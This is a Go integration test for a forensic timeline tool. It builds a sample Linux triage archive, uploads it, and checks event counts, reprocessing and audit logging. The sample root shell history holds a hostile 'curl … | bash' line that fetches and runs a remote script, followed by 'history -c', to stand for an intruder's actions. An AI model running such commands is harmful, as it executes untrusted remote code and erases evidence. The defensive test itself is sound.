package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/quarry-dfir/quarry/sqldb"
)

// uacArchive is a small UAC-style tar.gz of a Linux host: three failed SSH passwords and one
// accepted login in auth.log, and a root shell history.
func uacArchive(t *testing.T) []byte {
	t.Helper()
	files := []struct{ name, body string }{
		{"uac-web01-linux/[root]/var/log/auth.log", "" +
			"Nov 25 10:00:01 web01 sshd[811]: Failed password for root from 203.0.113.9 port 50122 ssh2\n" +
			"Nov 25 10:00:04 web01 sshd[811]: Failed password for root from 203.0.113.9 port 50122 ssh2\n" +
			"Nov 25 10:00:09 web01 sshd[815]: Failed password for invalid user admin from 203.0.113.9 port 50130 ssh2\n" +
			"Nov 25 10:02:30 web01 sshd[900]: Accepted password for deploy from 198.51.100.20 port 40022 ssh2\n"},
		{"uac-web01-linux/[root]/root/.bash_history", "curl -s http://203.0.113.9/x.sh | bash\nhistory -c\n"},
	}
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	mtime := time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)
	for _, f := range files {
		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o600, Size: int64(len(f.body)), ModTime: mtime, Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		io.WriteString(tw, f.body)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	gz.Close()
	return buf.Bytes()
}

// TestImportToTimeline runs manual import through the real program: an analyst uploads a UAC
// tar.gz (raw, and as a form), processing turns it into events the timeline API finds, and
// Reprocess gives the same events again.
func TestImportToTimeline(t *testing.T) {
	for _, dialect := range []string{sqldb.DialectSQLite, sqldb.DialectPostgres} {
		t.Run(dialect, func(t *testing.T) { testImportToTimeline(t, dialect) })
	}
}

func testImportToTimeline(t *testing.T, dialect string) {
	ts := startServer(t, dialect)
	p := ts.do(t, "POST", "/api/v1/projects", ts.analyst, map[string]any{"name": "import"})
	pid := int64(p.body["id"].(float64))
	pkg := uacArchive(t)
	imports := fmt.Sprintf("/api/v1/projects/%d/imports", pid)

	postBody := func(token, path, contentType string, body []byte) resp {
		t.Helper()
		req, _ := http.NewRequest("POST", ts.m.URL()+path, bytes.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("Content-Type", contentType)
		return ts.send(t, req)
	}
	wantError(t, postBody(ts.viewer, imports+"?filename=a.tar.gz", "application/gzip", pkg), http.StatusForbidden, "forbidden")
	wantError(t, postBody(ts.analyst, imports+"?filename=notes.txt", "text/plain", []byte("not an archive at all")), http.StatusBadRequest, "invalid")

	raw := postBody(ts.analyst, imports+"?"+url.Values{"filename": {"uac-web01-linux.tar.gz"}, "host_name": {"web01"}}.Encode(), "application/gzip", pkg)
	if raw.status != http.StatusCreated {
		t.Fatalf("import = %d %s", raw.status, raw.raw)
	}
	var form bytes.Buffer
	mw := multipart.NewWriter(&form)
	mw.WriteField("host_name", "web02")
	fw, _ := mw.CreateFormFile("file", "uac-web02-linux.tar.gz")
	fw.Write(pkg)
	mw.Close()
	multi := postBody(ts.analyst, imports, mw.FormDataContentType(), form.Bytes())
	if multi.status != http.StatusCreated {
		t.Fatalf("multipart import = %d %s", multi.status, multi.raw)
	}

	evidenceID := func(r resp) int64 { return int64(r.body["evidence"].(map[string]any)["id"].(float64)) }
	processed := func(id int64) resp {
		t.Helper()
		deadline := time.Now().Add(2 * time.Minute) // a bound against a hang
		for {
			ev := ts.do(t, "GET", fmt.Sprintf("/api/v1/evidence/%d", id), ts.viewer, nil)
			switch ev.body["state"] {
			case "processed":
				return ev
			case "failed":
				t.Fatalf("evidence %d failed: %s", id, ev.raw)
			}
			if time.Now().After(deadline) {
				t.Fatalf("evidence %d not processed: %s", id, ev.raw)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	ev := processed(evidenceID(raw))
	processed(evidenceID(multi))
	report := ev.body["processing"].(map[string]any)
	if report["format"] != "uac" || report["stage"] != "done" {
		t.Errorf("processing report = %v", report)
	}

	count := func(query string) float64 {
		t.Helper()
		r := ts.do(t, "GET", fmt.Sprintf("/api/v1/projects/%d/events?%s", pid, query), ts.viewer, nil)
		if r.status != http.StatusOK {
			t.Fatalf("events?%s = %d %s", query, r.status, r.raw)
		}
		return r.body["total"].(float64)
	}
	failed := url.Values{"q": {`"Failed password"`}}
	if n := count(failed.Encode() + "&host=web01"); n != 3 {
		t.Errorf("failed passwords on web01 = %v, want 3", n)
	}
	if n := count(failed.Encode()); n != 6 {
		t.Errorf("failed passwords on both hosts = %v, want 6", n)
	}
	if n := count(url.Values{"q": {"source:bash_history AND curl"}}.Encode()); n != 2 {
		t.Errorf("the curl | bash line = %v events, want one per host", n)
	}
	all := count("")

	r := ts.do(t, "POST", fmt.Sprintf("/api/v1/evidence/%d/reprocess", evidenceID(raw)), ts.analyst, nil)
	if r.status != http.StatusAccepted {
		t.Fatalf("reprocess = %d %s", r.status, r.raw)
	}
	processed(evidenceID(raw))
	if again := count(""); again != all {
		t.Errorf("after reprocessing: %v events, before %v", again, all)
	}
	// The overview's Reprocess button does the same for a signed-in analyst.
	c := uiClient(t)
	_, page := get(t, c, ts.m.URL()+"/login")
	post(t, c, ts.m.URL()+"/login", url.Values{"username": {"bob"}, "password": {analystPassword}, "csrf": {csrfOf(t, page)}})
	overview := fmt.Sprintf("%s/projects/%d/overview", ts.m.URL(), pid)
	_, page = get(t, c, overview)
	button := fmt.Sprintf("/projects/%d/evidence/%d/reprocess", pid, evidenceID(multi))
	if !strings.Contains(page, button) {
		t.Fatalf("the overview has no Reprocess button for evidence %d", evidenceID(multi))
	}
	want := fmt.Sprintf("/projects/%d/overview#evidence-%d", pid, evidenceID(multi))
	if res, body := post(t, c, ts.m.URL()+button, url.Values{"csrf": {csrfOf(t, page)}}); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != want {
		t.Fatalf("reprocess form = %d to %q, want 303 to %s\n%.500s", res.StatusCode, res.Header.Get("Location"), want, body)
	}
	processed(evidenceID(multi))
	if again := count(""); again != all {
		t.Errorf("after reprocessing from the overview: %v events, before %v", again, all)
	}

	audit := ts.do(t, "GET", "/api/v1/audit", ts.admin, nil)
	if !strings.Contains(audit.raw, `"evidence.import"`) || !strings.Contains(audit.raw, `"evidence.reprocess"`) {
		t.Errorf("audit log lacks the import or the reprocess: %s", audit.raw)
	}
}
